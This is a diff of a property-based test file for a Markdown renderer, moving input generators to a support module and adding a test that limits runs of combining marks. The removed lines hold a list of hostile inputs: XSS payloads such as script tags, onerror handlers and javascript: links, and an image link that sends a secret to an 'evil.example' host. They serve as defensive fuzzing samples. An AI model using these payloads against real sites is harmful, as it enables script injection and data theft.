@@ -1,41 +1,9 @@
 import fc from 'fast-check';
 import { describe, expect, it } from 'vitest';
 import { shareOf } from '../support/sizes.ts';
+import { anything, documents, MARKS, TAGS } from './support/arbitrary-markdown.ts';
 import { countWork } from './support/count-work.ts';
 import { begin, html, htmlOf, render, renderPieces } from './support/markdown.ts';
-
-const MARKS =
-  '* ** *** _ __ ` `` ``` ~~ ~~~ # ## - + 1. 2) > | |-| [ ] ( ) ! ![ $ \\ \\( \\| --- [x] 0 . , : < = / h http://'
-    .split(' ')
-    .concat(['\n', '\n', '\n\n', '\r\n', ' ', ' ', '    ', '\t', 'é', '字', '😀', '\ud83d', '\u{F0001}']);
-const TAGS = [
-  '<b>',
-  '</b>',
-  '<br>',
-  '<ul>',
-  '<li>',
-  '</li>',
-  '</ul>',
-  '<p>',
-  '</p>',
-  '<a href="https://x.example">',
-];
-const HOSTILE = [
-  '<script>alert(1)</script>',
-  '<img src=x onerror=alert(1)>',
-  '<svg onload=alert(1)>',
-  '<b onclick="x()" style="position:fixed">',
-  '<a href="javascript:alert(1)">',
-  '[x](javascript:alert(1))',
-  '![x](data:text/html,x)',
-  '![x](https://evil.example/?d=secret)',
-  'https://bank.example@evil.example',
-];
-const WORDS = ['w1', 'w2', 'w3', 'a_b', 'https://a.example/b', '[w4](https://a.example)'];
-
-const documents = (pieces: readonly string[]) =>
-  fc.array(fc.constantFrom(...pieces), { maxLength: 40 }).map((all) => all.join(''));
-const anything = documents([...MARKS, ...TAGS, ...HOSTILE, ...WORDS]);
 
 /** A text and the pieces in which it is written. */
 const pieced = fc
@@ -99,6 +67,15 @@ describe('arbitrary Markdown', () => {
       fc.property(pieced, ({ pieces }) => {
         const root = renderPieces(pieces, (half) => expect(unexpected(half)).toEqual([]));
         expect(unexpected(root)).toEqual([]);
+      }),
+      RUNS,
+    );
+  });
+
+  it('S-129: draws at most 32 combining marks in a row', () => {
+    fc.assert(
+      fc.property(anything, (text) => {
+        expect(render(text).textContent).not.toMatch(/\p{M}{33}/u);
       }),
       RUNS,
     );
